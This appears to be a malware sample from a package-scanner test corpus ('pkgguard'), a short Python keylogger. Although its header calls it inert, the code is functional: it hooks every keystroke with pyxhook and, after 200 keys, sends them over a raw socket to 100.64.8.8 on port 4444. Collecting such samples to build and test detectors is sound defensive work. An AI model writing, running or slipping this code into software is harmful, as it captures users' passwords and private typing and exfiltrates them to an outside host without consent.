# pkgguard corpus 598 (keylogger), modelled on [stealer-profile]; inert, never run.
import socket

import pyxhook

_typed = []


def _on_key(event):
    _typed.append(event.Key)
    if len(_typed) >= 200:
        with socket.create_connection(("100.64.8.8", 4444)) as s:
            s.sendall(" ".join(_typed).encode())
        _typed.clear()


hook = pyxhook.HookManager()
hook.KeyDown = _on_key
hook.HookKeyboard()
hook.start()
